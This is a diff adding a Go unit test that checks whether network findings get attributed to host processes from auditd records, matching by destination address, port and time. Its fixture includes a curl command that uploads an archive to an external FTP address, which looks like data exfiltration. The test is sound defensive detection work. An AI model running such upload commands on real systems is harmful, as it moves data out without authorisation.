@@ -138,3 +138,26 @@ func TestAnnotateDNS(t *testing.T) {
 		t.Errorf("%+v", p)
 	}
 }
+
+// TestAnnotateDestination: auditd's connect names only the remote end; a finding's records
+// match it by destination address, port and time.
+func TestAnnotateDestination(t *testing.T) {
+	b := attrib.NewBuilder()
+	ts := event.Time(1_700_000_000_000_000)
+	b.ObserveHost(&event.Host{Meta: event.Meta{TS: ts - 5e6}, Op: event.OpProcess, Log: "auditd", Computer: "build-07",
+		Proc: event.Proc{Image: "/usr/bin/curl", PID: 2156, CommandLine: "curl --upload-file r.tgz ftp://198.51.100.90/"}, Parent: event.Proc{PID: 2150}})
+	for i := range 3 {
+		b.ObserveHost(&event.Host{Meta: event.Meta{TS: ts + event.Time(i)*60e6 + 3e5}, Op: event.OpConnect, Log: "auditd", Computer: "build-07", Initiated: 1,
+			Proc: event.Proc{Image: "/usr/bin/curl", PID: 2156}, Flow: event.Flow{Dst: netip.MustParseAddr("198.51.100.90"), DstPort: 21}})
+	}
+	x := b.Index()
+	fs := []finding.Finding{{Entities: finding.Entities{Src: "10.9.9.9", Dst: "198.51.100.90", DstPort: 21}, First: ts, Last: ts + 120e6,
+		Evidence: []finding.Evidence{{TS: ts}, {TS: ts + 60e6}, {TS: ts + 120e6}}}}
+	x.Annotate(fs, attrib.DefaultOptions())
+	if len(fs[0].Processes) != 1 {
+		t.Fatalf("%+v", fs[0].Processes)
+	}
+	if p := fs[0].Processes[0]; p.By != "destination" || p.Records != 3 || p.Of != 3 || p.Host != "build-07" || !strings.Contains(p.CommandLine, "upload-file") {
+		t.Errorf("%+v", p)
+	}
+}
